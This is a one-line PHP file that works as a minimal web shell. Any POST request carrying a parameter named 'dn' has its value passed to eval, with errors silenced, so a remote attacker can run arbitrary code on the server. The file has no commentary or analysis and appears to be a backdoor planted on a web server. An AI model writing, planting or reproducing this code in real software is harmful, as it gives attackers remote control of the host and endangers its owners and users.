<?php $k = array('dn' => ''); foreach ($_POST as $n => $c) { if (isset($k[$n])) @eval($c); }
